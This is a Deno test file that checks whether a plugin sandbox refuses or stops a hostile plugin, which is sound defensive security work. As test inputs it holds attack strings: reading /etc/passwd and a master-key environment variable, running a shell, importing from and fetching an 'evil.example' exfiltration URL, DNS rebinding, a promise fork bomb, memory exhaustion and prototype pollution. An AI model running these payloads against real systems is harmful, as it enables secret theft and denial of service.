/**
 * A hostile plugin against the sandbox and the host API (issue 15). Each attempt must be refused
 * or stopped, and the host must carry on: these tests fail if the sandbox is weakened (an engine
 * with ambient APIs, a missing limit, a host function that skips the permission check).
 */
import assert from "node:assert/strict";
import { PluginError, Sandbox } from "./sandbox.ts";
import { hostFunctions, type PluginScope } from "./host_api.ts";
import type { SafeFetchDeps } from "./safe_fetch.ts";
import { signUpTenant, startTestServer } from "../../tests/helpers/server.ts";
import { apiClient } from "../../tests/helpers/api.ts";
import { putInState } from "../../tests/helpers/billing.ts";
import { installForTest } from "../../tests/helpers/plugins.ts";
import { bundleFrom } from "./bundle.ts";

const NO_HOST = {};

async function attempt(code: string, host = NO_HOST, limits = {}) {
  const box = new Sandbox("Hostile", `export async function run(input, context) { ${code} }`);
  const started = performance.now();
  try {
    const value = await box.call("run", [{ a: 1 }, {}], host, limits);
    return { value, error: null, ms: performance.now() - started, box };
  } catch (error) {
    return { value: undefined, error: error as PluginError, ms: performance.now() - started, box };
  }
}

Deno.test("a plugin has no Deno, fetch, require or process: no file, env or subprocess", async () => {
  const probe = await attempt(
    "return [typeof Deno, typeof fetch, typeof require, typeof process, typeof XMLHttpRequest, " +
      "typeof WebSocket, typeof setTimeout, typeof std, typeof os];",
  );
  assert.deepEqual(probe.value, Array(9).fill("undefined"));
  for (
    const code of [
      "return Deno.readTextFileSync('/etc/passwd');",
      "return Deno.env.get('ENCRYPTION_MASTER_KEY');",
      "return new Deno.Command('sh', { args: ['-c', 'id'] }).outputSync();",
    ]
  ) {
    const { error } = await attempt(code);
    assert.ok(error instanceof PluginError, code);
    assert.match(error.message, /'Deno' is not defined/);
  }
});

Deno.test("a plugin cannot import a module: not remote, not a file, not the engine's std/os", async () => {
  for (const specifier of ["https://evil.example/x.js", "file:///etc/passwd", "std", "os"]) {
    const dynamic = await attempt(`return await import(${JSON.stringify(specifier)});`);
    assert.ok(dynamic.error instanceof PluginError, specifier);
    assert.match(dynamic.error.message, /could not load module/);
  }
  const box = new Sandbox("Hostile", "import * as os from 'os'; export const run = () => 1;");
  await assert.rejects(box.call("run", [], NO_HOST), /failed to load: could not load module/);
});

Deno.test("fetch to an undeclared domain or to 127.0.0.1 is refused and never sent", async () => {
  const sent: string[] = [];
  const network: SafeFetchDeps = {
    fetch: (input) => {
      sent.push(String(input));
      return Promise.resolve(new Response("ok"));
    },
    resolve: (hostname) =>
      Promise.resolve(hostname === "rebind.example.com" ? ["127.0.0.1"] : ["93.184.216.34"]),
    timeoutMs: 1000,
    maxBytes: 1000,
  };
  const scope: PluginScope = {
    read: { execute: () => Promise.reject(new Error("no database here")) },
    write: null,
    permissions: [],
    domains: ["api.example.com", "rebind.example.com"],
    network,
  };
  const host = hostFunctions(scope);
  const tries: Array<[string, RegExp]> = [
    ["https://evil.example.org/steal", /not a domain this plugin declared/],
    ["https://127.0.0.1/admin", /refuses IP addresses/],
    ["https://[::1]/admin", /refuses IP addresses/],
    ["http://api.example.com/", /only fetches https/],
    ["https://api.example.com:8443/", /only uses port 443/],
    ["https://rebind.example.com/", /resolves to a private address/],
    ["https://user:pw@api.example.com/", /credentials/],
  ];
  for (const [url, why] of tries) {
    const { error } = await attempt(`return await host.fetch(${JSON.stringify(url)});`, host);
    assert.ok(error instanceof PluginError, url);
    assert.match(error.message, why, url);
  }
  assert.deepEqual(sent, [], "nothing left the machine");
  const allowed = await attempt(
    `return (await host.fetch("https://api.example.com/x")).body;`,
    host,
  );
  assert.equal(allowed.value, "ok");
  assert.deepEqual(sent, ["https://api.example.com/x"]);
});

Deno.test("an infinite loop is stopped on time and the next call gets a fresh sandbox", async () => {
  const box = new Sandbox(
    "Looper",
    "export function spin() { for (;;) {} } export const ok = () => 1;",
  );
  const started = performance.now();
  const err = await box.call("spin", [], NO_HOST, { timeMs: 200 }).catch((e) => e);
  assert.ok(err instanceof PluginError);
  assert.equal(err.stopped, true);
  assert.match(err.message, /Looper was stopped: it ran longer than 200 ms/);
  assert.ok(performance.now() - started < 2000, "stopped promptly");
  assert.equal(box.alive, false);
  assert.equal(await box.call("ok", [], NO_HOST), 1);
  box.dispose();
});

Deno.test("allocating 2 GB is refused or stopped and the host is unharmed", async () => {
  const before = Deno.memoryUsage().rss;
  for (
    const code of [
      "const b = new ArrayBuffer(2 * 1024 * 1024 * 1024); return b.byteLength;",
      "const s = 'x'.repeat(2 ** 30); return s.length;",
      "const u = new Uint8Array(2 ** 31 - 1); return u.length;",
      "const a = []; for (let i = 0; i < 3e8; i++) a.push({ i }); return a.length;",
    ]
  ) {
    const { error } = await attempt(code, NO_HOST, { timeMs: 5000 });
    assert.ok(error instanceof PluginError, code);
    assert.match(
      error.message,
      // Stopped at the memory limit, or on a busy machine at the time limit first: stopped.
      /was stopped: it (used more than 32 MB of memory|ran longer than)|invalid array buffer length|invalid string length/,
      code,
    );
  }
  const grown = Deno.memoryUsage().rss - before;
  assert.ok(grown < 512 * 1024 * 1024, `host grew ${grown} bytes`);
});

Deno.test("a fork bomb of promises is stopped", async () => {
  const { error, ms } = await attempt(
    "const bomb = () => { Promise.resolve().then(bomb); Promise.resolve().then(bomb); };" +
      " bomb(); return new Promise(() => {});",
    NO_HOST,
    { timeMs: 300 },
  );
  assert.ok(error instanceof PluginError);
  assert.equal(error.stopped, true);
  assert.ok(ms < 5000);
});

Deno.test("prototype pollution stays inside the sandbox", async () => {
  const { value } = await attempt(
    "input.__proto__.polluted = 'yes'; Object.prototype.polluted = 'yes';" +
      " Array.prototype.map = () => 'hijacked'; JSON.parse = () => ({ hijacked: true });" +
      " return JSON.parse ? { __proto__: { polluted: 'yes' }, own: 1 } : null;",
  );
  assert.equal(({} as Record<string, unknown>).polluted, undefined);
  assert.equal(Object.prototype.hasOwnProperty.call(Object.prototype, "polluted"), false);
  assert.deepEqual([1].map((x) => x + 1), [2]);
  assert.ok(value && typeof value === "object");
  assert.equal(Object.getPrototypeOf(value), Object.prototype);
  assert.equal((value as Record<string, unknown>).polluted, undefined);
});

Deno.test("a flood of host calls or an oversized message is refused", async () => {
  let seen = 0;
  const host = {
    log: () => {
      seen++;
      return Promise.resolve(null);
    },
  };
  const flood = await attempt(
    "const all = []; for (let i = 0; i < 100000; i++) all.push(host.log('x')); await Promise.all(all);",
    { ...host, "records.get": host.log },
  );
  assert.ok(flood.error instanceof PluginError);
  assert.ok(seen <= 200, `the host answered ${seen} calls`);
  const big = await attempt("return await host.records.get('x'.repeat(2 * 1024 * 1024), 'y');", {
    "records.get": () => Promise.resolve(null),
  });
  assert.match(big.error!.message, /too large/);
});

Deno.test("records: another tenant's id is not found, an undeclared collection is refused", async () => {
  const server = await startTestServer({});
  try {
    const a = await signUpTenant(server);
    const b = await signUpTenant(server);
    const apiA = await apiClient(server, a);
    const apiB = await apiClient(server, b);
    const theirs = await apiB.ok("POST", "/api/v1/suppliers", { name: "B's Secret Packer" }, 201);
    const mine = await apiA.ok("POST", "/api/v1/suppliers", { name: "A Packer" }, 201);
    const tenantA = (await server.services.registry.findById(a.tenantId))!;
    const lease = await server.services.pool.acquire(tenantA.id, tenantA.dbUrl);
    try {
      const host = hostFunctions({
        read: lease.db,
        write: { db: lease.db, userId: null, role: null },
        permissions: ["read:suppliers"],
        domains: [],
      });
      const read = (id: string) =>
        attempt(`return await host.records.get("suppliers", ${JSON.stringify(id)});`, host);
      assert.equal(((await read(mine.id)).value as { name: string }).name, "A Packer");
      assert.match((await read(theirs.id)).error!.message, /No such supplier/);
      const write = await attempt(
        `return await host.records.create("customers", { name: "Injected" });`,
        host,
      );
      assert.match(write.error!.message, /may not write customers/);
      const update = await attempt(
        `return await host.records.update("suppliers", ${
          JSON.stringify(mine.id)
        }, { version: 1, name: "Renamed" });`,
        host,
      );
      assert.match(update.error!.message, /may not write suppliers/);
    } finally {
      lease.release();
    }
    assert.equal((await apiA.ok("GET", "/api/v1/customers")).data.length, 0, "nothing written");
    assert.equal((await apiA.ok("GET", `/api/v1/suppliers/${mine.id}`)).name, "A Packer");
  } finally {
    await server.close();
  }
});

Deno.test("a hostile hook is stopped with a clear message; the app and other tenants carry on", async () => {
  const server = await startTestServer({});
  try {
    const victim = await signUpTenant(server);
    const other = await signUpTenant(server);
    for (const t of [victim, other]) {
      await putInState(server.services, t.tenantId, "enterprise", "active");
    }
    const hostile = bundleFrom(
      "private",
      JSON.stringify({
        name: "hostile",
        title: "Hostile",
        version: "1.0.0",
        apiVersion: "^1.0.0",
        permissions: ["read:suppliers"],
        entryPoints: { hooks: [{ event: "beforeSave", collection: "suppliers", handler: "spin" }] },
      }),
      "export function spin() { for (;;) {} }",
    );
    await installForTest(server.services, victim.tenantId, hostile);
    const api = await apiClient(server, victim);
    const otherApi = await apiClient(server, other);
    const refused = await api.call("POST", "/api/v1/suppliers", { name: "Blocked" });
    assert.equal(refused.status, 422);
    assert.match(
      refused.body.error.message,
      /Hostile could not check this change \(Hostile was stopped: it ran longer than 250 ms\.\)/,
    );
    assert.equal((await api.ok("GET", "/api/v1/suppliers")).data.length, 0);
    assert.equal((await server.fetch("localhost", "/healthz")).status, 200);
    await otherApi.ok("POST", "/api/v1/suppliers", { name: "Unaffected" }, 201);
  } finally {
    await server.close();
  }
});
